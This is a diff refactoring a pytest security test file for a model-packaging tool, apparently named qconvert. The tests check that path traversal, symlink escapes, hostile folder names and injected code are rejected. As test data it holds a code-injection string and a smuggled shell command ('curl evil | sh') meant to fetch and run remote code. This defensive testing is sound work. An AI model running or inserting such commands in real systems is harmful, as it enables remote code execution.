@@ -11,6 +11,7 @@ from typing import Any
 import numpy as np
 import pytest
 
+from qconvert.backends import cpu
 from qconvert.core import cache
 from qconvert.core.errors import QConvertError, UsageError
 from qconvert.core.tensors import TensorSpec
@@ -34,6 +35,10 @@ HOSTILE = '"]); raise SystemExit("ran") #'
 def change_engine_json(**changed: Any) -> None:
     record = json.loads((ENGINE / "engine.json").read_text())
     (ENGINE / "engine.json").write_text(json.dumps({**record, **changed}))
+
+
+def pack(form: Any, name: str = "") -> None:
+    write_package(load_run(Path("run")), PackageOptions(form, Path("out"), "cpu-int8", name))
 
 
 @pytest.mark.parametrize(
@@ -71,16 +76,14 @@ def test_package_of_an_engine_with_outside_files_is_rejected(form: Any, world: P
     Path("secret").write_text("secret")
     change_engine_json(files=["../../../secret"], graph="../../../secret")
     with pytest.raises(QConvertError, match="is no file in it"):
-        write_package(load_run(Path("run")), PackageOptions(form, Path("out/pack"), "cpu-int8"))
+        pack(form)
     assert not Path("out").exists()
 
 
 def test_package_name_that_leaves_the_folder_is_rejected(world: Path) -> None:
     for name in ("..", "../x", "/x", "a/b", ".", "a\nb", "a;b"):
         with pytest.raises(UsageError, match="cannot be the name of a folder"):
-            write_package(
-                load_run(Path("run")), PackageOptions("triton", Path("out"), "cpu-int8", name)
-            )
+            pack("triton", name)
     assert not Path("out").exists()
 
 
@@ -92,8 +95,6 @@ def test_hostile_names_do_not_become_code_of_the_package(world: Path) -> None:
         engine=replace(bundle.engine, files=(HOSTILE,)),
         outputs=(TensorSpec(HOSTILE, np.dtype("float32"), ("N", 24)),),
     )
-    from qconvert.backends import cpu
-
     program = run_script(bundle, cpu.load_spec(bundle.engine))
     nodes = list(ast.walk(ast.parse(program)))
     assert HOSTILE in {node.value for node in nodes if isinstance(node, ast.Constant)}
@@ -103,10 +104,8 @@ def test_hostile_names_do_not_become_code_of_the_package(world: Path) -> None:
 def test_hostile_requirement_of_an_engine_is_rejected(world: Path) -> None:
     change_engine_json(made_with={"runtime": 'x"; curl evil | sh #'})
     with pytest.raises(UsageError, match="no package and its release"):
-        write_package(
-            load_run(Path("run")), PackageOptions("onnxruntime", Path("pack"), "cpu-int8")
-        )
-    assert not Path("pack").exists()
+        pack("onnxruntime")
+    assert not Path("out").exists()
 
 
 @pytest.mark.parametrize("folder", ["engines", "calibration", "analysis", "engines/cpu-int8"])
@@ -118,14 +117,10 @@ def test_run_with_folders_linked_to_elsewhere_is_rejected(
     place.rename("elsewhere/moved")
     place.symlink_to(Path("elsewhere/moved").absolute())
     before = sorted(os.fspath(path) for path in Path("elsewhere").rglob("*"))
-    for args in (
-        ("bench", "run"),
-        ("build", "--from", "run"),
-        ("evaluate", "run", "--eval", "val"),
-    ):
-        done = qconvert(*args)
-        assert done.code == 2
-        assert "is a link that leads out of the run" in done.err
+    for command in ("bench run", "build --from run", "evaluate run --eval val"):
+        outcome = qconvert(*command.split())
+        assert outcome.code == 2
+        assert "is a link that leads out of the run" in outcome.err
     assert sorted(os.fspath(path) for path in Path("elsewhere").rglob("*")) == before
 
 
@@ -141,10 +136,8 @@ def test_report_images_outside_the_run_are_not_shown(name: str, world: Path) -> 
     Path("run/own.png").write_bytes(b"own")
     record = json.loads(Path("run/report.json").read_text())
     record["evidence"]["feature_maps"] = []
-    record["evidence"]["thumbnails"] = [
-        {"image": "a", "picture": name},
-        {"image": "b", "picture": "own.png"},
-    ]
+    images = [{"image": "a", "picture": name}, {"image": "b", "picture": "own.png"}]
+    record["evidence"]["thumbnails"] = images
     Path("run/report.json").write_text(json.dumps(record))
     report = json_file.load(Path("run/report.json"))
     assert report_images(report, Path("run")) == {"own.png": b"own"}
